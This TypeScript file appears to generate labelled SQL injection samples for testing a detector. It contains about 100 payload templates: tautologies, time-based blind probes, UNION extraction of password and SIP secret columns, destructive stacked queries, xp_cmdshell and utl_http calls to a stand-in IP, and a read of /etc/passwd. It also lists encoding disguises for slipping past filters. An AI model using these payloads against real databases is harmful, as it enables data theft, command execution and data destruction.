/** Labelled texts made by a seeded generator: the same ones in every run. */
export interface Labelled {
  readonly text: string
  readonly sqli: boolean
}

/** Mulberry32: small, and good enough to pick words. */
export function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

/** `N` is a number, `W` a word, `T` a table, `C` a column, `Q` `'` or `"`, `E` the end of the query. */
const attacks: readonly string[] = [
  'WQ or N=N E',
  'WQ) or (Q1Q=Q1',
  'WQ)) or ((QaQ=Qa',
  'WQ or QaQ=Qa',
  'Q or QQ=Q',
  'WQ or C like Q%',
  'WQ or C is not null E',
  'WQ or N<M E',
  'WQ and N=M E',
  'N and N=N',
  'N and N=M',
  'N or N=N E',
  'N) or (N=N',
  'WQ xor N=N E',
  'WQ || N=N E',
  'WQ && N=N E',
  'WQ or true E',
  'WQ or N E',
  'WQ or not false E',
  'WQ or C in (select C from T) E',
  'WQ or exists(select * from T) E',
  'WQ and ascii(substring((select C from T limit 0,1),N,1))>N E',
  "WQ and substring(C,N,1)='a",
  'WQ and length(database())=N E',
  'WQ and (select count(*) from T)>N E',
  'N and (select substring(@@version,1,1))=N',
  'WQ and if(N=N,sleep(N),0) E',
  'WQ and sleep(N) E',
  'WQ or sleep(N)=Q',
  'WQ-sleep(N)-Q',
  'N and sleep(N)',
  'N or benchmark(5000000,md5(N))',
  "WQ; waitfor delay '0:0:N' E",
  "N; waitfor delay '0:0:N' E",
  "WQ) waitfor time '10:00' E",
  'WQ; select pg_sleep(N) E',
  'WQ||pg_sleep(N) E',
  'N; select pg_sleep(N)',
  "WQ and N=dbms_pipe.receive_message('a',N) E",
  "WQ||dbms_pipe.receive_message(chr(65),N)||'",
  "WQ and N=like('abcdefg',upper(hex(randomblob(100000000/2))))",
  'WQ and randomblob(500000000) E',
  'WQ union select N,M E',
  'WQ union all select null,null,null E',
  'WQ union select C,C from T E',
  'N union select C from T',
  'WQ union distinct select @@version,N E',
  'WQ) union (select N,M) E',
  'N union all select concat(C,0x3a,C),null from T',
  'WQ union select group_concat(table_name),N from information_schema.tables E',
  'WQ union select sql,N from sqlite_master E',
  'WQ union select banner,null from v$version E',
  'WQ order by N E',
  'N order by N E',
  'N order by N--',
  'WQ) order by N E',
  'WQ group by C having N=N E',
  'WQ having N=N E',
  'N having N=N',
  'WQ; drop table T E',
  'WQ; drop table if exists T; E',
  'N; drop table T',
  'WQ; drop database T E',
  'WQ; delete from T E',
  'WQ; delete from T where N=N E',
  "WQ; insert into T values(N,'W') E",
  "WQ; insert into T (C,C) values ('W','W') E",
  "WQ; update T set C='W' E",
  "WQ; update T set C='W' where C='W' E",
  'WQ; truncate table T E',
  "WQ; create user W identified by 'W' E",
  'WQ; alter table T add C int E',
  "WQ; exec xp_cmdshell('dir') E",
  "WQ; exec master..xp_cmdshell 'ping 192.0.2.1' E",
  "WQ; exec sp_executesql N'select N' E",
  'WQ; declare @x varchar(99); set @x=0x77; exec(@x) E',
  'WQ; shutdown E',
  'WQ; shutdown with nowait E',
  "WQ; copy T from program 'id' E",
  'WQ; grant all on T to W E',
  "WQ; attach database '/var/www/x.php' as W E",
  "WQ'||'W",
  "W'||(select C from T)||'",
  "W'||(select C from T where rownum=1)||'W",
  "W'||utl_http.request('http://192.0.2.1')||'",
  "W'='",
  'WQ E',
  'WQ-- -',
  'WQ) E',
  "W'/*",
  "W';--",
  'WQ and extractvalue(1,concat(0x7e,version())) E',
  'WQ and updatexml(1,concat(0x7e,user()),1) E',
  'N and extractvalue(N,concat(0x5c,@@version))',
  'WQ and N=convert(int,@@version) E',
  'WQ and N=cast((select C from T) as int) E',
  'WQ and N=ctxsys.drithsx.sn(N,(select user from dual)) E',
  "WQ into outfile '/tmp/x' E",
  "WQ union select N into outfile '/tmp/x' E",
  'WQ procedure analyse(extractvalue(1,concat(0x3a,version())),1) E',
  'case when (N=N) then sleep(N) else 0 end',
  'WQ and case when N=N then N else M end=N E',
  '(select C from T limit 1)',
  "(select load_file('/etc/passwd'))",
  'WQ rlike (select (case when (N=N) then N else 0x28 end)) E',
  "WQ and C regexp '^W",
  "WQ and C between 'a' and 'z",
]

const tables = ['users', 'subscriber', 'sip_users', 'cdr', 'sipusers', 'accounts', 'information_schema.tables']
const columns = ['username', 'password', 'secret', 'id', 'ha1', 'name']
const words = ['admin', '100', '', 'x', '1001', 'alice', 'Asterisk', '-1']
const ends = ['--', '-- -', '#', '-- x', '/*', '--+', ';--']

/** How attackers hide: each leaves the same SQL. */
const disguises: readonly ((text: string, random: () => number) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/(?<!-) (?!-)/g, '/**/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll(' ', '  '),
  (text, random) => text.replaceAll(/[a-z]/g, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter)),
  (text) => text.toUpperCase(),
  (text) => encodeURIComponent(text).replaceAll("'", '%27').replaceAll('(', '%28').replaceAll('*', '%2A'),
  (text) => text.replaceAll(' ', '+'),
  (text) => text.replaceAll(/(?<!-) (?!-)/g, '/*x*/'),
  (text) => text.replaceAll("'", '\uff07'),
]

export function attackTexts(count: number, seed: number): readonly Labelled[] {
  const random = seeded(seed)
  const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item
  return Array.from({ length: count }, (_, index) => {
    const quote = random() < 0.85 ? "'" : '"'
    const number = String(1 + Math.floor(random() * 97))
    const plain = (attacks[index % attacks.length] ?? '')
      .replaceAll(/\bE$/g, () => pick(ends))
      .replaceAll(/W(?![a-z])/g, () => pick(words))
      .replaceAll(/Q/g, quote)
      .replaceAll(/\bT\b/g, () => pick(tables))
      .replaceAll(/\bC\b/g, () => pick(columns))
      .replaceAll(/\bN\b/g, number)
      .replaceAll(/\bM\b/g, String(Number(number) + 1))
    return { text: pick(disguises)(plain, random), sqli: true }
  })
}
